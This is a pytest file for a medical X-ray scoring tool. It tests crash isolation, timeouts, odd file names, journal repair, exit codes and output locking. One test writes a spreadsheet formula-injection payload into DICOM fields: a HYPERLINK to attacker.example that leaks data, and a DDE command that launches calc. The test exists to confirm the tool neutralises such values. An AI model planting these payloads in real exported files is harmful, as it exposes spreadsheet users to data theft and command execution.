"""Scoring under hostile conditions: dying and hanging decoders, odd file names, unreadable folders,
formula text, torn journals, a full disk, two runs on one output (issue 15, items 1, 5-10, 13)."""

from __future__ import annotations

import csv
import os
import signal
import time
from pathlib import Path

import pandas as pd
import pytest
import torch

from support.scoring import make_bundle, read_csv_rows, run_score, write_dicom, write_pngs
from xraytriage.scoring.dataset import StreamedScans
from xraytriage.scoring.journal import CsvJournal

CPU = torch.device("cpu")


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_bundle(tmp_path_factory.mktemp("hostile") / "model.pt")


def _segfault_on(monkeypatch: pytest.MonkeyPatch, name: str, wait_for: Path | None = None) -> None:
    """A native decoder dying on one file (inherited by the forked workers)."""
    real = StreamedScans.__getitem__

    def segfaulting(self, path):
        if Path(path).name == name:
            deadline = time.monotonic() + 20
            while wait_for is not None and not wait_for.exists() and time.monotonic() < deadline:
                time.sleep(0.01)
            os.kill(os.getpid(), signal.SIGSEGV)
        return real(self, path)

    monkeypatch.setattr(StreamedScans, "__getitem__", segfaulting)


def _paths(rows: list[dict[str, str]]) -> list[str]:
    return [r["path"] for r in rows]


# --- item 1: crash isolation -----------------------------------------------------------------------


@pytest.mark.timeout(180)
def test_a_crash_while_the_onnx_engine_is_being_built_is_isolated_to_its_file(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The worker dies while the engine exports (2 s here): the crash is still one file's failure, and
    never a false "engine unavailable" (exit 2, no rows) nor an escaping RuntimeError."""
    from xraytriage.deploy import export

    pytest.importorskip("onnxruntime")
    real_graph = export.onnx_graph

    def slow_export(*args, **kwargs):
        time.sleep(2.0)
        return real_graph(*args, **kwargs)

    monkeypatch.setattr(export, "onnx_graph", slow_export)
    monkeypatch.setenv("XRAYTRIAGE_CACHE_DIR", "off")
    _segfault_on(monkeypatch, "img0003.png")
    pngs = write_pngs(tmp_path / "in", 8)
    out = tmp_path / "s.csv"
    rc = run_score(
        tmp_path / "in", bundle, out, "--workers", "2", "--batch-size", "2", "--engine", "onnxruntime"
    )
    assert rc == 1
    assert sorted(_paths(read_csv_rows(out))) == sorted(str(p) for p in pngs if p.name != "img0003.png")
    errors = read_csv_rows(tmp_path / "s.errors.csv")
    assert [(Path(e["path"]).name, e["reason"]) for e in errors] == [("img0003.png", "decoder_crashed")]


@pytest.mark.timeout(180)
def test_a_worker_dying_just_after_a_batch_is_journaled_never_scores_it_twice(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SIGCHLD landing after the durable append but before the batch's paths are marked answered used
    to send them to crash isolation, which scored them again (9 rows, 7 unique)."""
    flag = tmp_path / "first-batch-journaled"
    real_append = CsvJournal.append

    def append_then_linger(self, rows):
        real_append(self, rows)
        if rows and self.path.name == "s.csv" and not flag.exists():
            flag.touch()  # now the worker holding img0003 dies ...
            time.sleep(1.5)  # ... while the main process is still between append and bookkeeping

    monkeypatch.setattr(CsvJournal, "append", append_then_linger)
    _segfault_on(monkeypatch, "img0003.png", wait_for=flag)
    pngs = write_pngs(tmp_path / "in", 8)
    out = tmp_path / "s.csv"
    rc = run_score(tmp_path / "in", bundle, out, "--workers", "2", "--batch-size", "2", "--engine", "torch")
    assert rc == 1
    paths = _paths(read_csv_rows(out))
    assert len(paths) == len(set(paths)), "a journaled batch was scored twice"
    assert sorted(paths) == sorted(str(p) for p in pngs if p.name != "img0003.png")
    errors = read_csv_rows(tmp_path / "s.errors.csv")
    assert [(Path(e["path"]).name, e["reason"]) for e in errors] == [("img0003.png", "decoder_crashed")]


def test_the_engine_never_falls_back_because_a_decoding_worker_died(
    bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xraytriage.deploy import export
    from xraytriage.models import load_bundle
    from xraytriage.scoring.engine import prepare_model, select_runner

    pytest.importorskip("onnxruntime")

    def dying(*args, **kwargs):
        raise RuntimeError("DataLoader worker (pid 4242) is killed by signal: Segmentation fault. ")

    monkeypatch.setattr(export, "onnx_graph", dying)
    monkeypatch.setenv("XRAYTRIAGE_CACHE_DIR", "off")
    b = load_bundle(bundle)
    with pytest.raises(RuntimeError, match="DataLoader worker"):
        select_runner(prepare_model(b.model, CPU), CPU, "auto", in_channels=1, image_size=32)


# --- item 5: per-file time limit -------------------------------------------------------------------


@pytest.mark.timeout(120)
def test_a_file_that_decodes_forever_is_recorded_as_timeout(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_load = StreamedScans._load

    def stalling(self, path):
        if Path(path).name == "img0002.png":
            time.sleep(3600)  # a pathological file stalls the decoder
        return real_load(self, path)

    monkeypatch.setattr(StreamedScans, "_load", stalling)
    pngs = write_pngs(tmp_path / "in", 6)
    out = tmp_path / "s.csv"
    started = time.monotonic()
    rc = run_score(tmp_path / "in", bundle, out, "--workers", "2", "--batch-size", "2", "--file-timeout", "1")
    assert rc == 1
    assert time.monotonic() - started < 60
    assert sorted(_paths(read_csv_rows(out))) == sorted(str(p) for p in pngs if p.name != "img0002.png")
    errors = read_csv_rows(tmp_path / "s.errors.csv")
    assert [(Path(e["path"]).name, e["reason"]) for e in errors] == [("img0002.png", "timeout")]
    assert "longer than 1 s" in errors[0]["message"]


def test_time_limit_and_memory_cap_come_from_the_config(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xraytriage import scoring

    seen = {}
    real = scoring.score

    def spy(opts):
        seen["opts"] = opts
        return real(opts)

    monkeypatch.setattr(scoring, "score", spy)
    write_pngs(tmp_path / "in", 1)
    cfg = tmp_path / "c.yaml"
    cfg.write_text("score:\n  file_timeout_s: 7\n  worker_memory_mb: 512\n  corrupt_pixel_data: accept\n")
    assert run_score(tmp_path / "in", bundle, tmp_path / "s.csv", "--config", str(cfg), "--workers", "0") == 0
    opts = seen["opts"]
    assert (opts.file_timeout_s, opts.worker_memory_mb, opts.corrupt_pixel_data) == (7.0, 512, "accept")
    assert (
        run_score(tmp_path / "in", bundle, tmp_path / "t.csv", "--file-timeout", "0", "--workers", "0") == 0
    )
    assert seen["opts"].file_timeout_s is None and seen["opts"].corrupt_pixel_data is None


# --- item 6: file names that are not UTF-8 ---------------------------------------------------------


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_file_names_that_are_not_utf8_score_and_resume(tmp_path: Path, bundle: Path, suffix: str) -> None:
    folder = tmp_path / "in"
    pngs = write_pngs(folder, 2)
    odd = Path(os.fsdecode(os.fsencode(folder) + b"/scan\xff\xfe.png"))
    pngs[0].rename(odd)
    (folder / os.fsdecode(b"empty\xe9.png")).write_bytes(b"")  # fails: goes to the errors file
    out = tmp_path / f"s{suffix}"
    assert run_score(folder, bundle, out) == 1
    assert run_score(folder, bundle, out) == 1  # used to end in a UnicodeDecodeError traceback
    assert run_score(folder, bundle, out, "--retry-failed") == 1
    if suffix == ".csv":
        paths = _paths(read_csv_rows_bytes(out))
        assert sorted(paths) == sorted([str(odd), str(pngs[1])])
    else:
        table = pd.read_parquet(out)
        assert len(table) == 2 and table["path"].is_unique
        assert str(pngs[1]) in set(table["path"]) and any(
            p.endswith("scan\\xff\\xfe.png") for p in table["path"]
        )
    errors = read_csv_rows_bytes(tmp_path / "s.errors.csv")
    assert [Path(e["path"]).name for e in errors] == [os.fsdecode(b"empty\xe9.png")]


def read_csv_rows_bytes(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8", errors="surrogateescape") as fh:
        return list(csv.DictReader(fh))


# --- item 7: unreadable subfolders -----------------------------------------------------------------


def test_an_unreadable_subfolder_is_recorded_and_fails_the_run(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "in"
    write_pngs(folder, 2)
    locked = folder / "ward7"
    write_pngs(locked, 2, prefix="hidden")
    real_scandir = os.scandir

    def scandir(path="."):
        if isinstance(path, (str, os.PathLike)) and os.fspath(path) == str(locked):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    out = tmp_path / "s.csv"
    assert run_score(folder, bundle, out) == 1
    assert len(read_csv_rows(out)) == 2
    errors = read_csv_rows(tmp_path / "s.errors.csv")
    assert [(e["path"], e["reason"]) for e in errors] == [(str(locked), "unreadable_folder")]
    assert "Permission denied" in errors[0]["message"]
    assert run_score(folder, bundle, out) == 1  # still failing, not recorded twice
    assert len(read_csv_rows(tmp_path / "s.errors.csv")) == 1
    monkeypatch.setattr(os, "scandir", real_scandir)  # access granted: --retry-failed scores its scans
    assert run_score(folder, bundle, out, "--retry-failed") == 0
    assert len(read_csv_rows(out)) == 4 and read_csv_rows(tmp_path / "s.errors.csv") == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads a mode-000 folder anyway")
def test_a_mode_000_folder_is_recorded(tmp_path: Path, bundle: Path) -> None:
    folder = tmp_path / "in"
    write_pngs(folder / "closed", 1)
    os.chmod(folder / "closed", 0)
    try:
        assert run_score(folder, bundle, tmp_path / "s.csv") == 1
        errors = read_csv_rows(tmp_path / "s.errors.csv")
        assert [e["reason"] for e in errors] == ["unreadable_folder"]
    finally:
        os.chmod(folder / "closed", 0o755)


# --- item 8: spreadsheet formula injection ---------------------------------------------------------


def test_formula_text_never_reaches_a_score_cell(tmp_path: Path, bundle: Path, pydicom_test_file) -> None:
    folder = tmp_path / "in"
    hyperlink = '=HYPERLINK("http://attacker.example/?leak=1","click")'
    write_dicom(pydicom_test_file("CT_small.dcm"), folder / "a.dcm", "1.2.3", hyperlink)
    write_dicom(pydicom_test_file("CT_small.dcm"), folder / "b.dcm", "+cmd|' /C calc'!A0", "1.2.3.4")
    studies = tmp_path / "studies.csv"
    assert run_score(folder, bundle, tmp_path / "s.csv", "--studies", str(studies)) == 0
    rows = {Path(r["path"]).name: r for r in read_csv_rows(tmp_path / "s.csv")}
    assert rows["a.dcm"]["sop_instance_uid"] == "" and rows["a.dcm"]["study_instance_uid"] == "1.2.3"
    assert rows["b.dcm"]["sop_instance_uid"] == "1.2.3.4" and rows["b.dcm"]["study_instance_uid"] == ""
    for f in (tmp_path / "s.csv", studies):
        with open(f, newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), f


def test_journal_cells_that_would_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "j.csv"
    with CsvJournal(path, ["path", "a", "b", "c", "d", "e"]) as journal:
        journal.open()
        journal.append([["/scans/x.dcm", "=1+1", "-2+3", "@SUM(A1)", "\tTAB", "plain -text"]])
    row = read_csv_rows(path)[0]
    assert [row[k] for k in "abcde"] == ["'=1+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "plain -text"]
    assert row["path"] == "/scans/x.dcm"


# --- item 9: resume gaps ---------------------------------------------------------------------------


def test_a_cut_just_after_a_newline_inside_a_quoted_file_name_is_repaired(
    tmp_path: Path, bundle: Path
) -> None:
    folder = tmp_path / "in"
    pngs = write_pngs(folder, 4)
    odd = folder / "line\nbreak.png"
    pngs[1].rename(odd)
    out = tmp_path / "s.csv"
    assert run_score(folder, bundle, out, "--batch-size", "1") == 0
    data = out.read_bytes()
    cut = data.index(b"line\n") + len(b"line\n")  # the kill lands inside the quoted name
    out.write_bytes(data[:cut])
    assert run_score(folder, bundle, out) == 0
    rows = read_csv_rows(out)
    assert sorted(_paths(rows)) == sorted(str(p) for p in [pngs[0], odd, *pngs[2:]])
    assert all(r["model_id"] and float(r["prob_finding"]) >= 0 for r in rows)


def test_journal_repair_respects_quotes(tmp_path: Path) -> None:
    path = tmp_path / "j.csv"
    header = b"path,v\n"
    for tail, kept in [
        (b'"/a\n', 0),  # cut just after a quoted newline
        (b'"/a\nb",1\n"/c', 1),  # a whole record, then a cut inside a quote
        (b'"/a ""q""\nb",1\n/c,', 1),  # escaped quotes, then a cut after a comma
        (b'"/a\nb",1\n', 1),
    ]:
        path.write_bytes(header + tail)
        with CsvJournal(path, ["path", "v"]) as journal:
            done = journal.open()
            journal.append([["/z", "2"]])
        assert len(done) == kept
        rows = read_csv_rows(path)
        assert rows[-1] == {"path": "/z", "v": "2"} and len(rows) == kept + 1


def test_a_kill_between_the_parquet_rename_and_the_journal_deletion_duplicates_nothing(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pngs = write_pngs(tmp_path / "in", 8)
    out = tmp_path / "s.parquet"
    journal = tmp_path / "s.parquet.partial.csv"
    real_unlink = Path.unlink

    def killed_before_unlink(self, *args, **kwargs):
        if self == journal:
            raise KeyboardInterrupt  # stands for kill -9 right after the rename
        return real_unlink(self, *args, **kwargs)

    monkeypatch.setattr(Path, "unlink", killed_before_unlink)
    assert run_score(tmp_path / "in", bundle, out) == 130
    assert journal.exists() and len(pd.read_parquet(out)) == 8
    monkeypatch.setattr(Path, "unlink", real_unlink)
    assert run_score(tmp_path / "in", bundle, out) == 0
    table = pd.read_parquet(out)
    assert len(table) == 8 and table["path"].is_unique
    assert sorted(table["path"]) == sorted(str(p) for p in pngs)
    assert not journal.exists()


# --- item 10: exit codes ---------------------------------------------------------------------------


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk_is_exit_74_with_one_line_naming_the_file(
    tmp_path: Path, bundle: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    write_pngs(tmp_path / "in", 2)
    out = tmp_path / "s.csv"
    out.symlink_to("/dev/full")  # every write: ENOSPC
    assert run_score(tmp_path / "in", bundle, out, "--workers", "0") == 74  # EX_IOERR
    err = capfd.readouterr().err.strip().splitlines()
    assert err[-1] == f"xraytriage score: I/O error: disk full: cannot write {out}"
    assert not any("Traceback" in line for line in err)


def test_an_internal_error_is_exit_5_with_its_traceback_in_a_file(
    tmp_path: Path, bundle: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    from xraytriage.scoring import runner

    def broken(*args, **kwargs):
        raise ZeroDivisionError("a bug in study aggregation")

    monkeypatch.setattr(runner, "aggregate_studies", broken)
    write_pngs(tmp_path / "in", 1)
    rc = run_score(tmp_path / "in", bundle, tmp_path / "s.csv", "--studies", str(tmp_path / "st.csv"))
    assert rc == 70  # EX_SOFTWARE
    line = capfd.readouterr().err.strip().splitlines()[-1]
    assert line.startswith("xraytriage score: internal error (ZeroDivisionError: a bug in study aggregation)")
    saved = Path(line.rsplit("traceback in ", 1)[1])
    try:
        assert "ZeroDivisionError" in saved.read_text() and "aggregate_studies" not in line
    finally:
        saved.unlink()


# --- item 13: one run per output ------------------------------------------------------------------


def test_a_second_run_on_the_same_output_is_refused(
    tmp_path: Path, bundle: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    from xraytriage.utils.lock import exclusive_lock, lock_file_for

    write_pngs(tmp_path / "in", 2)
    out = tmp_path / "s.csv"
    with exclusive_lock(lock_file_for(out), str(out)):  # another run holds the output
        assert run_score(tmp_path / "in", bundle, out) == 2
    assert "in use by another xraytriage run" in capfd.readouterr().err
    assert not out.exists()
    assert run_score(tmp_path / "in", bundle, out) == 0  # released: the next run proceeds
    errors_elsewhere = tmp_path / "other" / "e.csv"
    with exclusive_lock(lock_file_for(errors_elsewhere), "errors"):  # its errors file is locked too
        assert run_score(tmp_path / "in", bundle, tmp_path / "t.csv", "--errors", str(errors_elsewhere)) == 2


def test_workers_of_a_killed_run_do_not_keep_its_output_locked(tmp_path: Path) -> None:
    """A forked child shares the lock's open file: it must close its copy, or orphaned decoding
    workers of a `kill -9`-ed run would refuse the rerun until they noticed and exited."""
    from xraytriage.utils.lock import OutputLocked, exclusive_lock, lock_file_for

    out = tmp_path / "s.csv"
    read_end, write_end = os.pipe()
    with exclusive_lock(lock_file_for(out), str(out)):
        child = os.fork()
        if child == 0:  # a worker that outlives its parent
            os.close(read_end)
            os.write(write_end, b"x")
            time.sleep(30)
            os._exit(0)
        os.close(write_end)
        assert os.read(read_end, 1) == b"x"
    try:
        with exclusive_lock(lock_file_for(out), str(out)):  # parent gone, child alive: free
            pass
    except OutputLocked:
        pytest.fail("a forked child kept the lock")
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        os.close(read_end)
